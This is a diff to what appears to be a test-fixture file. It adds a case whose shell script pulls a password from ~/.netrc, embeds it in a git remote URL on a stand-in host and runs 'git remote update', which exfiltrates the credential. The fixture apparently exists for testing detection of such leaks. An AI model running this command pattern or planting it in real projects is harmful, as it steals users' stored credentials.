@@ -50,6 +50,13 @@ REMOTE_URL = {
 }
 
 
+REMOTE_URL["remote update after the URL was set"] = {
+    "scripts/run.sh": (
+        "t=$(awk '/password/{print $2}' ~/.netrc | head -1)\n"
+        'git remote add mirror "https://m.example.invalid/$t/r.git"\n'
+        "git remote update\n"
+    )
+}
 REMOTE_URL["node runs git with the remote"] = {
     "scripts/run.js": (
         "const cp = require('child_process'), fs = require('fs'), os = require('os');\n"
